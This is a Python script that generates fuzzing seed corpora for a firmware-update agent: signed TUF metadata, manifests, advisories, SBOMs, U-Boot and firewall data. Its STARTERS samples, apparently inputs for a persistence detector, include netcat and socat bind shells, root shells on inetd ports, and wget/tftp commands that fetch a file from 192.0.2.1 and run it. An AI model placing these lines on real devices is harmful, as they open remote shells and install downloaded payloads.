"""Writes the seeds of the corpora: metadata made with python-tuf and signed with the keys that the targets know, the
example repository, and examples of every other format. Run it with the Python of tests/setup.

    work/tests-venv/bin/python tests/fuzz/seeds.py FOLDER
"""

import json
import struct
import sys
import zlib
from datetime import datetime, timezone
from pathlib import Path

from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from securesystemslib.signer import CryptoSigner
from tuf.api.metadata import (DelegatedRole, Delegations, MetaFile, Metadata, Root, Snapshot, TargetFile, Targets,
                              Timestamp)

import seeds_fleet
import seeds_guard
import seeds_page
import seeds_proc

TOP = Path(__file__).resolve().parents[2]
# The targets live in January 2027.
EXPIRES = datetime(2027, 2, 1, tzinfo=timezone.utc)
WHOLE, SIGNED, WITH_STORE, ANOTHER_KEY, ROTTEN = 0, 1, 2, 0x10, 0x40


def signer(number):
    """The key that the simulated repository gives this number."""
    return CryptoSigner(Ed25519PrivateKey.from_private_bytes(bytes([number]) * 32))


def roots():
    root = Root(version=2, expires=EXPIRES, consistent_snapshot=True)
    for role, number in {"root": 1, "timestamp": 2, "snapshot": 3, "targets": 4}.items():
        root.add_key(signer(number).public_key, role)
    yield "same-keys", root, [signer(1)]
    new = Root.from_dict(root.to_dict())
    new.revoke_key(signer(2).public_key.keyid, "timestamp")
    new.add_key(signer(12).public_key, "timestamp")
    ecdsa = CryptoSigner(ec.derive_private_key(int.from_bytes(bytes([1]) * 32, "big"), ec.SECP256R1()))
    new.add_key(ecdsa.public_key, "root")
    new.unrecognized_fields["x-more"] = {"a": [1, None, True, "\u65e5\n"]}
    yield "new-timestamp-key", new, [signer(1)]
    flat = Root.from_dict(root.to_dict())
    flat.consistent_snapshot = False
    yield "no-prefixes", flat, [signer(1)]
    two = Root.from_dict(root.to_dict())
    two.add_key(ecdsa.public_key, "root")
    two.roles["root"].threshold = 2
    yield "two-must-sign", two, [signer(1), ecdsa]


def delegations():
    paths = DelegatedRole("team", [signer(50).public_key.keyid], 1, False, paths=["team/*", "*"])
    hashes = DelegatedRole("sub", [signer(50).public_key.keyid], 1, True, path_hash_prefixes=["0", "8", "a", "f0"])
    odd = DelegatedRole("a/b", [signer(50).public_key.keyid], 1, True, paths=["?", "*/*/x"])
    return Delegations({signer(50).public_key.keyid: signer(50).public_key}, {"team": paths, "sub": hashes, "a/b": odd})


def metadata():
    """Role, name, signed part, signers."""
    for name, root, signers in roots():
        yield "root", name, root, signers
    timestamp = Timestamp(version=7, expires=EXPIRES, snapshot_meta=MetaFile(7))
    yield "timestamp", "plain", timestamp, [signer(2)]
    timestamp = Timestamp.from_dict(timestamp.to_dict())
    timestamp.unrecognized_fields["issued"] = "2027-01-01T00:00:00Z"
    timestamp.snapshot_meta = MetaFile(7, 1000, {"sha256": "ab" * 32, "sha512": "cd" * 64})
    yield "timestamp", "issued", timestamp, [signer(2)]
    files = {f"{name}.json": MetaFile(7) for name in ("targets", "team", "sub", "a/b", "other")}
    yield "snapshot", "plain", Snapshot(version=7, expires=EXPIRES, meta=files), [signer(3)]
    files = {**files, "targets.json": MetaFile(7, 2000, {"sha512": "cd" * 64}), "\u65e5.json": MetaFile(1)}
    yield "snapshot", "hashes", Snapshot(version=7, expires=EXPIRES, meta=files), [signer(3)]
    listed = {path: TargetFile.from_data(path, b"x", ["sha256", "sha512"]) for path in ("a", "images/x.img")}
    yield "targets", "plain", Targets(version=7, expires=EXPIRES, targets=listed), [signer(4)]
    yield "targets", "delegations", Targets(version=7, expires=EXPIRES, delegations=delegations()), [signer(4)]
    team = {path: TargetFile.from_data(path, b"x", ["sha256"]) for path in ("team/a", "\u00e9")}
    yield "delegated", "plain", Targets(version=7, expires=EXPIRES, targets=team), [signer(50)]
    below = Targets(version=7, expires=EXPIRES, targets={}, delegations=delegations())
    yield "delegated", "delegations", below, [signer(50)]


def files():
    """Target, name, bytes."""
    yield from seeds_fleet.files()
    yield from seeds_guard.files()
    yield from seeds_page.files()
    yield from seeds_proc.files()
    for role, name, signed, signers in metadata():
        whole = Metadata(signed)
        for one in signers:
            whole.sign(one, append=True)
        part = json.dumps(signed.to_dict(), separators=(",", ":"), ensure_ascii=False).encode()
        yield role, f"tuf-{name}", bytes([SIGNED | WITH_STORE]) + part
        yield role, f"tuf-{name}-forged", bytes([SIGNED | ANOTHER_KEY]) + part
        yield role, f"tuf-{name}-rotten", bytes([SIGNED | WITH_STORE | ANOTHER_KEY | ROTTEN]) + part
        yield role, f"tuf-{name}-whole", bytes([WHOLE]) + whole.to_bytes()
        yield "json", f"tuf-{role}-{name}", part
        yield "json_differential", f"tuf-{role}-{name}", part
    for path in sorted((TOP / "keys-example/repository/metadata").iterdir()):
        role = path.stem.split(".")[-1]
        yield role, f"example-{path.stem}", bytes([WHOLE]) + path.read_bytes()
    for path in (TOP / "keys-example/repository/targets/boards").rglob("*.json"):
        yield "manifest", "example", path.read_bytes()
    for name, text in ODD_JSON.items():
        yield "json", name, text.encode()
        yield "json_differential", name, text.encode()
    yield "manifest", "full", json.dumps(MANIFEST).encode()
    for name, value in ADVISORIES.items():
        yield "advisories", name, json.dumps(value).encode()
    for name, value in SBOMS.items():
        yield "sbom", name, json.dumps(value).encode()
    yield "settings", "example", (TOP / "agent/dist/komainu.toml").read_bytes()
    for name, text in SETTINGS.items():
        yield "settings", name, text.encode()
    for name, text in CONFIGS.items():
        yield "uboot_config", name, text.encode()
    for redundant in (False, True):
        for order in "<>":
            area = b"bootcmd=run x\0boot_slot=a\0odd=\xff\xc0\0a=1=2\0boot_slot=b\0\0\0\0"
            copy = struct.pack(f"{order}I", zlib.crc32(area)) + (b"\x07" if redundant else b"") + area
            mode = redundant | (order == ">") << 1
            yield "uboot_image", f"good-{mode}", bytes([mode]) + copy
            yield "uboot_image", f"changed-{mode}", bytes([mode | 4 | 1 << 3]) + b"\x09boot_slot\x01c" + copy
    for name, changes in ANSWERS.items():
        yield "firewall_answers", name, bytes(changes)
    yield "firewall_counts", "list", LISTED.encode()
    for name, text in NEAR.items():
        yield "near", name, text.encode()
    for name, lines in RECORDS.items():
        yield "record", name, b"\1" + lines.encode()
    for name, word in WORDS.items():
        yield "words", name, word.encode()
    for number, changes in KEYS.items():
        yield "keys", number, bytes(changes)
    for name, program in BUNDLES.items():
        yield "bundle", name, program
    for name, operations in PATCHES.items():
        yield "patch", name, operations
    for name, program in PROGRAMS.items():
        yield "update", name, bytes(program)
    for name, (kind, text) in STARTERS.items():
        yield "autostart", name, bytes([kind]) + text.encode()
    for name, (percent, text) in ACCOUNTS.items():
        yield "accounts", name, bytes([percent]) + text.encode()


def controls(*numbers):
    return struct.pack("<" + "q" * len(numbers), *numbers)


#: Operations on the old image of the target `patch`: 64 bytes of 7, a packed block, and its content once more.
PATCHES = {
    "copy": struct.pack("<BQI", 1, 10, 50) + struct.pack("<BI", 2, 5) + b"bytes",
    "block": struct.pack("<BBQIIII", 3, 1, 0, 0, 64, 64, 88) + controls(64, 0, 0) + bytes(64),
    "packed": struct.pack("<BBQIIIIBBBBBBI8sI", 4, 1, 0, 0, 64, 64, 8192, 6, 0, 3, 0, 2, 0, 60, bytes(8), 88)
              + controls(64, 0, 0) + bytes(64),
    "file": b"KOMADLT1" + struct.pack("<QQIIQ", 64, 5, 3, 10, 5) + b"xyz",
}
ODD_JSON = {
    "spellings": ' { "b" : [1, -2, true, null, false], "a\\n\\"\\\\" : "\\u00e9\\u0007/\\/" }\n',
    "pair": '["\\ud83e\\udd84", "\U0001f984", "\uffff", "\U00010000", "\\u0000", "\x7f"]',
    "numbers": "[0, -1, 9223372036854775807, -9223372036854775808, 9007199254740993]",
    "refused": '[1.0, 1e3, -0, 01, 9223372036854775808, {"a":1,"a":2}]',
    "order": '{"\ue000":1,"\U00010000":2,"a":3,"A":4,"":5,"aa":6}',
    "deep": "[" * 32 + "]" * 32,
    "too-deep": "[" * 33 + "]" * 33,
}
MANIFEST = {
    "format": 1, "board": "gate-1", "channel": "stable", "release": 42, "version": "2.1.0", "severity": "important",
    "needs": ["delta-1"], "support_end": "2031-12-31T00:00:00Z",
    "images": [{"part": "kernel", "target": "images/k", "length": 8, "sha256": "ab" * 32},
               {"part": "rootfs", "target": "images/r", "length": 1 << 40, "sha256": "CD" * 32}],
    "waves": [{"from": "2026-12-01T00:00:00Z", "permille": 10}], "notes": {"en": "New", "ja": "\u65b0"}, "fixes": ["CVE-1"],
}
DROPBEAR = {"package": {"purl": "pkg:generic/dropbear"}, "versions": ["2019.78", "1:2.0~rc1", "v1.0-beta+1"]}
ADVISORIES = {
    "versions": {"osv": [{"id": "CVE-1", "affected": [DROPBEAR]}]},
    "ranges": {"osv": [{
        "id": "GHSA-1", "aliases": ["CVE-1"], "modified": "2026-01-01T00:00:00Z", "summary": "x",
        "database_specific": {"severity": "MODERATE"},
        "affected": [{"package": {"purl": "pkg:deb/debian/dropbear?arch=source"}, "ranges": [
            {"type": "ECOSYSTEM", "events": [{"introduced": "0"}, {"fixed": "2020.79"}]},
            {"type": "SEMVER", "events": [{"introduced": "1.0.0"}, {"last_affected": "1.36.1"}]},
            {"type": "GIT", "repo": "u", "events": [{"introduced": "0"}]}]}]}]},
    "vex": {"osv": [{"id": "CVE-1", "affected": [DROPBEAR]}, {"id": "CVE-2", "withdrawn": "x"}], "vex": [
        {"vulnerability": {"name": "CVE-1"}, "status": status, "action_statement": "y",
         "products": [{"@id": "pkg:generic/gate-1@2.1.0", "subcomponents": [{"@id": "pkg:generic/dropbear"}]},
                      {"@id": "pkg:generic/dropbear@2019.78"}, {"@id": "pkg:generic/gate-1"}]}
        for status in ("affected", "under_investigation", "fixed", "not_affected")]},
}
SBOMS = {
    "least": {"bomFormat": "CycloneDX", "specVersion": "1.4", "components": [{"name": "x"}]},
    "full": {"bomFormat": "CycloneDX", "specVersion": "1.6", "metadata": {"component": {"name": "y"}}, "components": [
        {"type": "library", "name": "x", "version": "1", "purl": "pkg:generic/x@1", "evidence": {"confidence": 0.5},
         "components": [{"name": "z", "components": []}]}, {"type": "file", "name": "/bin/x"}],
        "vulnerabilities": [{"ratings": [{"score": 8.1}]}]},
}
LEAST = ('[device]\nboard = "gate-1"\nid = "x"\n[gate]\nkeep = false\n[server]\nmetadata_url = "https://u.example/m"\n'
         'targets_url = "http://127.0.0.1/t/"\nca_files = ["/etc/ca.pem"]\n'
         '[[part]]\nname = "rootfs"\na = "/dev/a"\nb = "/dev/b"\n')
SETTINGS = {
    "least": LEAST,
    "spellings": 'a = "\\b\\t\\n\\u00e4\\U0001f98a \u00fc"\nb = \'C:\\n\' # c\nc = [1,2, 3,]\nd = ["x", \'y\'\n]\n1 = +7\n-_- = 1_0',
    "tables": "[[slot]]\nname = 'a'\n[[slot.part]]\nn = 1\n[[slot]]\n[slot.x]\ny = true\n[a.b]\nx = -0\n[a]\ny = 2\r\n",
}
CONFIGS = {
    "single": "# comment\n\n /dev/mmcblk0\t0x80000  0x2000 # trailing\n",
    "pair": "/dev/mmcblk0 -0x4000 0x2000 0x200 10 1\n/dev/mmcblk0 -8192 0x2000",
    "flash": "/dev/mtd1 0 0x2000\n/dev/mtdblock3 0 0x10",
}
RECORDS = {
    kind: "komainu-record 1\ngeneration 17\nconfirmed slot=a release=41 version=2.0.9\nfloor 41\n"
          f"update {update}\nfailed release=40 times=3\n"
    for kind, update in {
        "idle": "idle",
        "staging": "staging slot=b release=42 version=2.1.0 digest=00a1b2c3d4e5f607 part=0 offset=4194304",
        "staged": "staged slot=b release=42 version=2.1.0 digest=00a1b2c3d4e5f607",
        "trial": "trial slot=b release=42 version=2.1.0 deadline=300 restarts=2 tries=3",
        "rolling-back": "rolling-back slot=b release=42 version=2.1.0 restarts=0",
    }.items()
}
WORDS = {"moment": "2027-01-15T08:00:00Z", "leap": "2000-02-29T23:59:59Z", "escaped": "..%2Fx%E6%97%A5", "dots": "..",
         "name": "gate-1.a_b", "print": "00a1b2c3d4e5f607", "slot": "a", "far": "9999-12-31T23:59:59Z", "path": "/a?b#c d"}
# Raw, or a right answer with changes: where, and what is there then.
ANSWERS = {"right": [1], "raw": [0, 20, 0, 0, 0, 3, 10, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0],
           "a-length": [1, 0, 40, 255, 0, 20, 3], "many": [1, *(byte for at in range(0, 250, 5) for byte in (1, at, at))]}
LISTED = ("-P INPUT ACCEPT -c 9 540\n-N KOMAINU-IN\n-A INPUT -c 7 420 -j KOMAINU-IN\n"
          "-A KOMAINU-IN -i lo -c 0 0 -j RETURN\n-A KOMAINU-STRANGERS -p tcp -m tcp --dport 23 -c 18446744073709551615 1 -j DROP\n")
NEAR = {
    "route": "Iface\tDestination\tGateway \tFlags\tRefCnt\tUse\tMetric\tMask\t\tMTU\tWindow\tIRTT\n"
             "eth0\t00000000\t027100CB\t0003\t0\t0\t0\t00000000\t0\t0\t0\nbr0\t0001A8C0\t00000000\t0001\t0\t0\t0\t00FFFFFF\t0\t0\t0\n",
    "addresses": "20010db8000200000000000000000001 03 40 00 80      br0\nfe8000000000000000000000000000ff 03 40 20 80     eth0\n",
}
# Which true key; which parts are changed; the changes.
KEYS = {
    "true-ed25519": [0, 0], "true-p256": [1, 0], "older-spelling": [1, 1, 2], "upper-case": [0, 4, 0, 6, 10, 0, 0],
    "line-end": [1, 4, 0, 2, 26, 0, 13], "scheme": [0, 2, 1], "message": [0, 8, 0, 0, 3, 0, 1],
    "signature": [1, 16, 0, 0, 9, 0, 1], "whole-signature": [1, 48, 8, 0, 0x30, 6, 2, 1, 5, 2, 1, 0x7f],
    "true-rsa": [3, 0], "rsa-signature": [3, 16, 0, 0, 9, 0, 1], "rsa-key": [3, 4, 0, 1, 40, 0, 65],
    "der": [0x30, 6, 2, 1, 5, 2, 1, 0x7f],
}
# For each header: how it is written and how long its name is, the name, the length, the kind, the format, the content.
BUNDLES = {
    "file": b"\x09metadata/" + bytes([3, 0, 0, 0]) + b"abc" + b"\0",
    "long-name": b"\x0d././@LongLink" + bytes([20, 0, 2, 1]) + b"targets/2/rootfs.img" + b"\x01x" + bytes(4) + b"\0",
    "prefix": b"\x11targets/rootfs.im" + bytes([1, 0, 0, 0]) + b"images/gate-1/2.0" + b"z" + b"\0",
    "folder": b"\x05data/" + bytes([0, 0, 3, 1]) + b"\0\0",
    "wrong-sum": b"\x49" + b"m" * 73 + bytes(4) + b"\0",
}
# The kind, and the file.
STARTERS = {
    "inittab": (0, "::sysinit:/etc/init.d/rcS\n::respawn:/usr/sbin/telnetd -F -l /bin/sh\ntn:2:once:a; telnetd &\n"),
    "inetd": (1, "#x\ntelnet\tstream tcp nowait root /usr/sbin/tcpd in.telnetd\n31337 stream tcp nowait root /bin/sh sh -i\n"),
    "xinetd": (2, "service telnet\n{\n\tdisable = no\n\tserver = /usr/sbin/in.telnetd\n}\n"),
    "script": (3, "#!/bin/sh\nif [ -x /sbin/telnetd ]; then /sbin/telnetd -l \\\n /bin/sh & fi\nsh -c \"telnetd\"\n"),
    "procd": (3, "PROG=\"/usr/sbin/telnetd\"\nprocd_set_param command \"$PROG\" -F\nkillall telnetd\n"),
    "shells": (3, "nc -l -p 4444 -e /bin/sh &\nsocat TCP-LISTEN:9 EXEC:/bin/ash\ntcpsvd 0 99 sh -i\n"),
    "dropper": (3, "cd /tmp || cd /var; wget http://192.0.2.1/b; chmod 777 b; ./b\n"),
    "cron": (4, "*/5 * * * * wget -qO- http://192.0.2.1/x | sh\n@reboot telnetd\n"),
    "cron-of-users": (5, "@daily root busybox tftp -g -r x 192.0.2.1 && sh /tmp/x\n* * * * * root telnetd\n"),
    "words": (3, "cat <<-E\n\ttelnetd\n\tE\nf() { \"$@\"; }\nB=/bin/busybox; f ${X:-$B} $(a `b`) telnetd\ncase $1 in (a|b) eval \"c $d\";; esac\n"),
    "calls": (3, ". /lib/x.sh\nfor i in /etc/rc.d/S*; do $i start; done\ntaskset 2 utelnetd\nexec nice -n 5 sshd\n"),
    "interfaces": (8, "iface e inet dhcp\n\tup telnetd; x\n"),
    "udev": (9, "ACTION==\"add\", RUN+=\"/usr/sbin/telnetd -l /bin/sh\"\n"),
    "mdev": (10, "ttyUSB[0-9]* root:tty 660 @telnetd -p 99\n"),
    "supervised": (7, "#!/bin/sh\nexec telnetd -F\n"),
    "unit": (6, "[Service]\nExecStart=-/usr/sbin/in.telnetd \\\n  -h\n"),
}
# How many percent are the first file, and both files.
ACCOUNTS = {
    "both": (52, "root:x:0:0:root:/root:/bin/sh\nguest::5:5:::\ntoor:x:0:0::/:\n"
                 "root:$1$abcdefgh$0123456789012345678901:1:0:9:7:::\ntoor::1::::::\n"),
    "passwd": (100, "root:abJnggxhB/yWI:0:0::/:\r\n+::::::\n::0:0:::\nroot:x:0:0:::\nodd:x:minus:0"),
    "web": (100, "admin:$apr1$salt$0123456789012345678901\nguest:guest\n"),
    "keys": (100, "# k\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIIqI4910CfGV/VLbLTy6XXLKZwm/HZQSG/N0iAG0D29c a\n"
                  "command=\"x y\" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIIqI4910CfGV/VLbLTy6XXLKZwm/HZQSG/N0iAG0D29c\n"),
}
# For each refresh: clock, server, power cut, then what becomes of each answer.
PROGRAMS = {
    "honest": [1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0],
    "later-and-back": [1, 8, 0] + [0] * 12 + [1, 2, 0] + [0] * 8,
    "cut": [1, 3, 2] + [0] * 9 + [1, 8, 3] + [0] * 12,
    "thief": [1, 0, 0, 0, 0, 0, 0, 0] + [1, 9, 0, 0, 0, 0, 0, 0] + [1, 8, 0] + [0] * 12,
    "forger": [1, 13, 0, 0, 0, 0, 0] + [1, 14, 0, 0, 0, 0, 0] + [1, 15, 0, 0, 0, 0, 0],
    "edited": [1, 2, 0, 9, 8, 0, 0, 40, 0, 1] + [1, 2, 0, 9, 0, 8, 0, 3, 99, 0, 0],
    "mixed": [1, 5, 0, 0, 9, 6, 22, 7, 3, 11, 139, 10, 0x7b, 0x7d],
    "clocks": [7, 3, 0] + [0] * 7 + [8, 3, 0] + [0] * 7 + [0x81, 3, 5] + [0] * 7 + [3, 3, 0],
}


def main():
    for target, name, data in files():
        folder = Path(sys.argv[1]) / target
        folder.mkdir(parents=True, exist_ok=True)
        (folder / name).write_bytes(data)


if __name__ == "__main__":
    main()
